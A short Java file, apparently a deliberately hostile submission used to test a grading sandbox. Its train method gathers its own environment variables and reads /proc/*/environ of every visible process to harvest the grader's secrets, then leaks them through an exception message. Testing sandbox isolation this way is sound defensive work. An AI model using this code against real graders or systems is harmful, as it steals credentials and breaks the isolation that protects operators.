import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Set;
import java.util.TreeSet;
import org.nnlab.api.LabContext;
import org.nnlab.api.LabSolution;

/**
 * Hostile: collects every environment variable it can see: its own, and those of every process visible in /proc
 * (the sandbox's init, its parent), where the grader's secrets would be if they leaked.
 */
public class Solution implements LabSolution {
    @Override
    public void train(LabContext ctx) throws Exception {
        Set<String> seen = new TreeSet<>();
        System.getenv().forEach((key, value) -> seen.add(key + "=" + value));
        try (DirectoryStream<Path> processes = Files.newDirectoryStream(Path.of("/proc"), "[0-9]*")) {
            for (Path process : processes) {
                for (String variable : new String(Files.readAllBytes(process.resolve("environ"))).split("\0")) {
                    if (!variable.isEmpty()) {
                        seen.add(variable);
                    }
                }
            }
        }
        throw new IllegalStateException("environment seen: " + seen);
    }
}
